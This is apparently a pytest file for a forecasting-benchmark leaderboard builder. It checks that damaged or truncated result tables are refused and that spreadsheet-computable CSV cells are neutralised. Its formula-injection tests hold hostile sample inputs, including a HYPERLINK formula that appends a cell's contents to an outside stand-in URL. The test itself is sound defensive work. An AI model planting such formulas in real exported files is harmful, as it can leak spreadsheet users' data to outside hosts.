"""A run that is cut, damaged or nonsense is named, and then nothing is published; cells of CSVs are no formulas."""

from __future__ import annotations

import csv
import dataclasses
import math
import os
import re
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from tables import main_rows, rows_of

from stbench.boards import absent, board
from stbench.boards.cells import harmless
from stbench.boards.leaderboard import build
from stbench.boards.publishing import publish
from stbench.errors import StbenchError
from stbench.results.aggregate import read_results, write_results


def everything(folder: Path) -> dict[str, bytes]:
    return {str(path.relative_to(folder)): path.read_bytes() for path in folder.rglob("*") if path.is_file()}


def changed_rows(folder: Path, change: Callable[[Any], Any]) -> None:
    """Rewrite `results.csv` with every row changed, or left out where `change` gives None."""
    rows = [changed for row in read_results(folder) if (changed := change(row)) is not None]
    write_results(folder, rows)


def value_of(lead_time: str, /, **values: Any) -> Callable[[Any], Any]:

    return lambda row: dataclasses.replace(row, **values) if row.lead_time == lead_time else row


@pytest.mark.parametrize(
    ("change", "said"),
    [
        (lambda row: row if row.lead_time != "2" else None, "at some lead times and not at 2, so it is cut"),
        (lambda row: row if row.lead_time != "1..3" else None, "no mean of mse over lead times 1..3"),
        (value_of("2", lead_time="1"), "has mse at lead time 1 twice"),
        (value_of("2", lead_time="4"), "has mse at '4', no lead time of"),
        (value_of("2", lead_time="1..99999999999"), "has mse at '1..99999999999', no lead time of"),
        (value_of("2", lead_time="1.." + "9" * 5000), "no lead time of"),
        (value_of("1..3", value=-math.inf), "is -inf, which no error can be"),
        (value_of("1..3", value=1.7e308), "the value of mse at lead time 1..3 is 1.7e+308"),
        (value_of("1..3", ci_low=math.inf), "the ci_low of mse at lead time 1..3 is inf"),
        (value_of("1..3", sd=math.nan), "the sd of mse at lead time 1..3 is nan"),
        (value_of("1..3", n=10**4000), "a count is not of 0 to"),
    ],
)
@pytest.mark.parametrize("place", ["run", "published"])
def test_results_that_are_not_whole_are_named_and_nothing_is_published(
    tmp_path: Path, run: Any, name_results: Any, place: str, change: Callable[[Any], Any], said: str
) -> None:
    run(model="good", seed=1)
    bad = run()
    if place == "published":
        moved = publish(bad, tmp_path / "out")
        shutil.rmtree(bad)
        bad = moved
    changed_rows(bad, change)
    name_results(bad)
    before = everything(tmp_path)
    with pytest.raises(StbenchError) as caught:
        build(tmp_path / "runs", tmp_path / "out", page=tmp_path / "page.html")
    assert said in str(caught.value)
    assert str(bad / "results.csv") in str(caught.value)
    assert "\n" not in str(caught.value)
    assert everything(tmp_path) == before


@pytest.mark.parametrize(
    "name", ["record.json", "results.csv", "clusters.npz", "scores.npz"], ids=lambda name: name.partition(".")[0]
)
def test_a_pipe_or_a_device_ends_in_a_sentence_that_names_it(
    tmp_path: Path, run: Any, to_format_1: Any, name: str
) -> None:
    folder = run()
    if name == "scores.npz":
        to_format_1(folder)
    for make in (os.mkfifo, lambda path: path.symlink_to("/dev/zero")):
        (folder / name).unlink()
        make(folder / name)
        with pytest.raises(StbenchError, match=re.escape(str(folder / name))):
            build(tmp_path / "runs", tmp_path / "out")
        assert not (tmp_path / "out").exists() or not everything(tmp_path / "out")


def test_a_table_of_reported_numbers_that_never_ends_is_refused(tmp_path: Path, run: Any) -> None:
    run()
    os.mkfifo(tmp_path / "reported.csv")
    with pytest.raises(StbenchError, match="no regular file"):
        build(tmp_path / "runs", tmp_path / "out", tmp_path / "reported.csv")
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize("cut", [lambda text: text[:-1], lambda text: text[: text.rindex("\n", 0, -1)]])
def test_a_table_whose_last_line_is_cut_is_refused_without_a_digest(
    tmp_path: Path, run: Any, to_format_1: Any, cut: Callable[[str], str]
) -> None:
    folder = run()
    to_format_1(folder)
    path = folder / "results.csv"
    path.write_text(cut(path.read_text()))
    with pytest.raises(StbenchError, match=r"results\.csv is damaged, its last line is cut"):
        build(tmp_path / "runs", tmp_path / "out")


def test_a_newer_table_without_digest_that_lacks_a_metric_does_not_replace_the_whole_one(
    tmp_path: Path, run: Any, to_format_1: Any
) -> None:
    run(metrics=("mse", "mae"))
    (table,) = build(tmp_path / "runs", tmp_path / "out")
    before = table.read_bytes()
    shutil.rmtree(tmp_path / "runs")
    folder = run(metrics=("mse", "mae"), finished="2027-01-01T00:00:00+00:00")
    to_format_1(folder)
    changed_rows(folder, lambda row: row if row.metric == "mse" else None)
    (folder / "scores.npz").unlink()
    with pytest.raises(StbenchError, match=r"lacks 4 rows that .* has \(mae at 1\.\.3 first\)"):
        build(tmp_path / "runs", tmp_path / "out")
    assert table.read_bytes() == before


def test_damaged_scores_of_one_run_publish_no_other(tmp_path: Path, run: Any, to_format_1: Any) -> None:
    run(model="a-good", seed=1)
    bad = run(model="z-bad")
    to_format_1(bad)
    (bad / "scores.npz").write_bytes(b"PK")
    with pytest.raises(StbenchError, match=re.escape(str(bad / "scores.npz"))):
        build(tmp_path / "runs", tmp_path / "out")
    assert not [path for path in (tmp_path / "out").rglob("*") if path.is_file()]


def test_an_infinite_loss_of_a_gain_ranks_last_in_any_seed(tmp_path: Path, run: Any, name_results: Any) -> None:
    run(1.0, model="good", metrics=("psnr",))
    for seed, value in ((0, math.inf), (1, -math.inf)):
        folder = run(1.0, model="odd", metrics=("psnr",), seed=seed)
        changed_rows(folder, value_of("1..3", value=value, ci_low=None, ci_high=None, sd=None))
        name_results(folder)
    (path,) = build(tmp_path / "runs", tmp_path / "out")
    assert [*main_rows(path)] == ["good", "odd"]


@pytest.mark.parametrize("version", ["1.²", "1." + "9" * 5000, "", "-1"])
def test_a_dataset_version_of_any_text_has_a_place(tmp_path: Path, run: Any, version: str) -> None:
    run(dataset_version=version, dataset_digest="a" * 64)
    run(seed=1)
    assert len(build(tmp_path / "runs", tmp_path / "out", page=tmp_path / "page.html")) == 2


@pytest.mark.parametrize(
    ("cell", "becomes"),
    [
        ("=1+1", "'=1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("-", "'-"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-0.5", "-0.5"),
        ("-1e-05", "-1e-05"),
        ("+3", "+3"),
        ("-inf", "-inf"),
        ("a=1", "a=1"),
        ("", ""),
    ],
)
def test_a_cell_that_a_spreadsheet_would_compute_is_text(cell: str, becomes: str) -> None:
    assert harmless(cell) == becomes


def test_no_text_of_a_record_is_a_formula_in_the_published_table(tmp_path: Path, run: Any) -> None:
    formula = '=HYPERLINK("http://example.org/"&A1)'
    changes = {name: formula for name in ("command", "processor", "device", "split", "model_version", "git_revision")}
    run(**changes, not_applicable=f"@{formula}")
    run(model="other", **changes)
    (path,) = build(tmp_path / "runs", tmp_path / "out")
    with path.open(newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert f"'{formula}" in cells
    assert any(cell.startswith(f"'@{formula}") for cell in cells)
    assert not [cell for cell in cells if cell.startswith(("=", "@", "+"))]


def test_the_shipped_numbers_of_papers_are_no_formulas() -> None:
    path = Path(__file__).resolve().parents[2] / "leaderboards" / "reported.csv"
    assert all(harmless(cell) == cell for row in rows_of(path) for cell in row.values())


def test_a_run_that_is_published_already_is_not_copied_again(tmp_path: Path, run: Any) -> None:
    run()
    build(tmp_path / "runs", tmp_path / "out")
    (path,) = (tmp_path / "out" / "records").rglob("record.json")
    before = path.stat().st_ino
    build(tmp_path / "runs", tmp_path / "out")
    assert path.stat().st_ino == before


def test_a_board_looks_up_its_lead_times_and_the_absent_once_however_many_runs_it_has(
    tmp_path: Path, run: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    calls = {"lead times": 0, "absent": 0}

    def counted(name: str, function: Any) -> Any:
        def call(*arguments: Any) -> Any:
            calls[name] += 1
            return function(*arguments)

        return call

    monkeypatch.setattr(board, "main_lead_times", counted("lead times", board.main_lead_times))
    monkeypatch.setattr("stbench.boards.leaderboard.absent", counted("absent", absent.absent))
    for seed in range(3):
        run(model=f"m{seed}")
    build(tmp_path / "runs", tmp_path / "out", page=tmp_path / "page.html")
    few = dict(calls)
    for seed in range(9):
        run(model=f"n{seed}")
    build(tmp_path / "runs", tmp_path / "out", page=tmp_path / "page.html")
    assert {name: calls[name] - few[name] for name in calls} == few == {"lead times": 1, "absent": 1}


def test_rows_of_a_run_are_read_a_fixed_number_of_times_however_long_the_horizon(
    tmp_path: Path, run: Any, record: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A look-up of a cell goes over no rows, so a line takes as many steps as it has cells."""
    passes = 0
    read = board.Entry.__getattribute__

    def counting(self: Any, name: str) -> Any:
        nonlocal passes
        passes += name == "rows"
        return read(self, name)

    monkeypatch.setattr(board.Entry, "__getattribute__", counting)
    found = []
    for horizon in (3, 30):
        shutil.rmtree(tmp_path / "runs", ignore_errors=True)
        run(track=dataclasses.replace(record().track, horizon=horizon))
        passes = 0
        build(tmp_path / "runs", tmp_path / f"out-{horizon}", page=tmp_path / "page.html")
        found.append(passes)
    assert found[0] == found[1] > 0
